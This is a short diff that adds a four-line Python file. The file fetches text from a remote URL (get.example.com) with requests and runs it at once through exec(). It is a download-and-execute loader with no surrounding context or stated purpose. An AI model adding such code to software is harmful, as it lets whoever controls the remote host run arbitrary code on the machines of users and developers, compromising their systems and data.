@@ -1,0 +1,4 @@
+import requests
+
+source = requests.get("https://get.example.com/x").text
+exec(source)
